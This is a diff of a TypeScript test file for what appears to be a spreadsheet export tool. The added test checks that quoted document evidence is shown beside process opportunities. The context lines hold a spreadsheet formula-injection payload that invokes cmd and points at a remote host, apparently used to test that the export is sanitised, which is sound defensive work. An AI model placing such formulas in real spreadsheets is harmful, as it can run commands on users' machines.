@@ -227,6 +227,19 @@ const OURS = [
   "=cmd|'/c test.exe \\\\192.0.2.1\\x,0'!_xlbgnm.B2",
 ];
 
+it('says beside an opportunity what documents say of its process', async () => {
+  const source = exampleClient();
+  const process = source.processes.find(({ opportunities }) => opportunities.length > 0);
+  const said = { fileName: 'report.pdf', page: 3, quote: '28 % of notices are incomplete.' };
+  const evidence = new Map([[process?.id ?? '', [said]]]);
+  const workbook = await read(await exportSheets(buildBlueprint({ ...source, evidence })));
+  const words: string[] = [];
+  sheetOf(workbook, SHEET.opportunities).eachRow((row) => words.push(row.getCell(OPPORTUNITY.rationale).text));
+  expect(words.filter((text) => text.includes('“28 % of notices are incomplete.”, report.pdf, p. 3'))).toHaveLength(
+    process?.opportunities.length ?? 0,
+  );
+});
+
 describe('hostile text', () => {
   it.each([
     { from: 'ours', payloads: OURS },
